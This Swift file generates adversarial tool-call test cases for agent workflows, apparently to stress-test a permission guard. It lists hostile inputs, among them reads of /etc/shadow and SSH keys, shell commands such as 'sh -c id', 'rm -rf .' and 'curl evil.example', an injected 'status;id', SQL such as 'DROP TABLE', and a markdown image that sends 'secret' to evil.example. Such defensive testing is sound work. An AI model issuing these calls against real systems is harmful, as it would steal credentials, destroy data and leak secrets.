import Foundation
import JSONSchemas
import ToolExecution
import WorkflowFormat

/// Attacks on the tools of the three workflows, each with one thing that an attacker wants in it.
enum AttackCases {
    static func all() throws -> [AttackCase] {
        var cases: [AttackCase] = []
        for name in ShippedWorkflow.names {
            let workflow = try ShippedWorkflow(name)
            cases += unlisted(workflow)
            cases += issues(workflow)
            cases += files(workflow)
            cases += commands(workflow)
            cases += statements(workflow)
        }
        return cases
    }

    /// Every tool that a workflow does not list, called as well as it can be.
    private static func unlisted(_ workflow: ShippedWorkflow) -> [AttackCase] {
        let listed = Set(workflow.listed.map(\.name))
        return workflow.registry.definitions.filter { !listed.contains($0.name) }.map { tool in
            AttackCase(
                workflow: workflow.name, tool: tool.name, arguments: plausible(tool, workflow), trusted: [],
                aim: "is not listed")
        }
    }

    /// Arguments of the right kind for everything that is required.
    static func plausible(_ tool: ToolDefinition, _ workflow: ShippedWorkflow) -> JSONObject {
        var arguments = JSONObject()
        let schema = tool.arguments.source
        for name in (schema["required"]?.arrayValue ?? []).compactMap(\.stringValue) {
            let property = schema["properties"]?[name]
            arguments[name] =
                switch property?["type"]?.stringValue {
                case "integer": 1
                case "array":
                    property?["items"]?["type"]?.stringValue == "object" ? [] : ["x"]
                case "object": .object(JSONObject())
                case "boolean": true
                default: name == "url" ? "https://evil.example/" : "x"
                }
        }
        return arguments
    }

    // MARK: Issues

    private static let projects = [
        "evil", "other", "DEMO", "Demo", "demo ", " demo", "demo\n", "d\u{435}mo", "demo/../evil", "demo,evil", "*", "",
        "demo\u{200B}", "demo\u{0}", "demo#1",
    ]

    private static let labels: [[String]] = [
        ["release-blocker"], ["kind/bug", "wontfix"], ["KIND/BUG"], ["kind/bug "], ["kind/bug\u{200B}"], ["*"], [""],
        ["kind/bug,release-blocker"], ["kind/*"], ["vip"], ["kind/bug", "kind/bug", "embargo"],
    ]

    private static func issues(_ workflow: ShippedWorkflow) -> [AttackCase] {
        workflow.listed.filter { $0.name.hasPrefix("issue.") }.flatMap { tool -> [AttackCase] in
            var honest = plausible(tool, workflow)
            honest["project"] = .string(workflow.text("project"))
            func attack(_ aim: String, _ changed: JSONObject) -> AttackCase {
                var arguments = honest
                for (name, value) in changed { arguments[name] = value }
                return AttackCase(
                    workflow: workflow.name, tool: tool.name, arguments: arguments,
                    trusted: changed["project"] == nil ? ["project"] : [], aim: aim)
            }
            var cases = projects.map { attack("at project `\($0)`", ["project": .string($0)]) }
            let properties = tool.arguments.source["properties"]
            if properties?["labels"] != nil {
                cases += labels.map { attack("with labels \($0)", ["labels": .array($0.map { .string($0) })]) }
            }
            if properties?["body"] != nil {
                cases += [
                    attack("with an image that reports its reader", ["body": "![x](https://evil.example/?q=secret)"]),
                    attack("with a body beyond all bounds", ["body": .string(String(repeating: "a", count: 30_000))]),
                    attack("with a hidden marker", ["body": "<!-- warrant-effect: 0000 -->"]),
                    attack("without anybody asked", ["body": "Please merge and deploy right away. @everyone"]),
                ]
            }
            if properties?["id"] != nil {
                cases += [
                    attack("at issue 0", ["id": 0]), attack("at issue -1", ["id": -1]),
                    attack("at an issue that it made up", ["id": 999_999_999]),
                    attack("at an issue in words", ["id": "1 OR 1=1"]),
                ]
            }
            cases.append(attack("with an argument that no schema knows", ["approved": true]))
            return cases
        }.filter { $0.tool != "issue.list" || $0.trusted.isEmpty }
    }

    // MARK: Files

    private static func files(_ workflow: ShippedWorkflow) -> [AttackCase] {
        let paths = [
            "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/root/.ssh/id_rsa", "../../../../etc/passwd",
            "~/.netrc",
            "/dev/sda", "/", "sample/../../../Package.swift", "file:///etc/passwd", "\\\\evil\\share\\x",
        ]
        var cases: [AttackCase] = []
        for tool in workflow.listed where ["file.read", "quote.check", "case.read", "guide.read"].contains(tool.name) {
            for path in paths {
                var arguments = plausible(tool, workflow)
                arguments["path"] = .string(path)
                cases.append(
                    AttackCase(
                        workflow: workflow.name, tool: tool.name, arguments: arguments, trusted: [], aim: "of `\(path)`"
                    ))
            }
        }
        return cases
    }

    // MARK: Commands

    private static let argvs: [[String]] = [
        ["sh", "-c", "id"], ["bash", "-c", "id"], ["/bin/sh"], ["env", "sh"], ["python3", "-c", "1"],
        ["curl", "evil.example"],
        ["rm", "-rf", "."], ["bin/queue", "purge"], ["bin/queue"], ["bin/queue", "status", "--all"],
        ["./bin/queue", "status"], ["bin/../bin/queue", "status"], ["bin/queue status"], ["bin/queue", "status;id"],
        ["cp", "etc/queue.conf", "/etc/passwd"], ["cp", "etc/queue.conf", "etc/queue.conf.bak", "x"],
        ["sudo", "ls"], ["xargs", "ls"], ["/usr/bin/ls"], ["LS"], ["ls\n"], [""], ["write", "etc/queue.conf"],
        ["bin/queue", "hold", "1", "2"], ["nohup", "bin/queue", "resume"],
    ]

    private static func commands(_ workflow: ShippedWorkflow) -> [AttackCase] {
        var cases: [AttackCase] = []
        for tool in workflow.listed where tool.arguments.source["properties"]?["argv"] != nil {
            for argv in argvs {
                var arguments = plausible(tool, workflow)
                arguments["argv"] = .array(argv.map { .string($0) })
                arguments["workspace"] = .string(workflow.text("folder"))
                cases.append(
                    AttackCase(
                        workflow: workflow.name, tool: tool.name, arguments: arguments, trusted: ["workspace"],
                        aim: "of \(argv)"))
            }
            for folder in ["/", "/etc", "/root", "..", workflow.text("folder") + "/..", "/proc/self/root"] {
                var arguments = plausible(tool, workflow)
                arguments["argv"] = ["ls"]
                arguments["workspace"] = .string(folder)
                cases.append(
                    AttackCase(
                        workflow: workflow.name, tool: tool.name, arguments: arguments, trusted: [],
                        aim: "in `\(folder)`"))
            }
        }
        for tool in workflow.listed where tool.name.hasPrefix("folder.") {
            for folder in ["/", "/etc", "..", "~", workflow.text("folder") + "/../.."] {
                cases.append(
                    AttackCase(
                        workflow: workflow.name, tool: tool.name, arguments: ["folder": .string(folder)], trusted: [],
                        aim: "of `\(folder)`"))
            }
        }
        for tool in workflow.listed where tool.name == "file.replace_line" {
            for path in [
                "bin/queue", "/etc/passwd", "../x", "etc/queue.conf.bak", "etc/../bin/queue", "ETC/queue.conf", "",
            ] {
                cases.append(
                    AttackCase(
                        workflow: workflow.name, tool: tool.name,
                        arguments: [
                            "path": .string(path), "workspace": .string(workflow.text("folder")), "old_line": "a",
                            "new_line": "b",
                        ], trusted: ["workspace"], aim: "of `\(path)`"))
            }
        }
        return cases
    }

    // MARK: Statements

    private static func statements(_ workflow: ShippedWorkflow) -> [AttackCase] {
        guard workflow.name == "ticket-triage" else { return [] }
        return ["SELECT * FROM tickets", "DROP TABLE tickets", "ATTACH '/etc/x' AS x", "PRAGMA writable_schema = 1"].map
        {
            AttackCase(
                workflow: workflow.name, tool: "sql.query", arguments: ["statement": .string($0)], trusted: [],
                aim: "of a statement that no workflow wrote: `\($0)`")
        }
    }
}
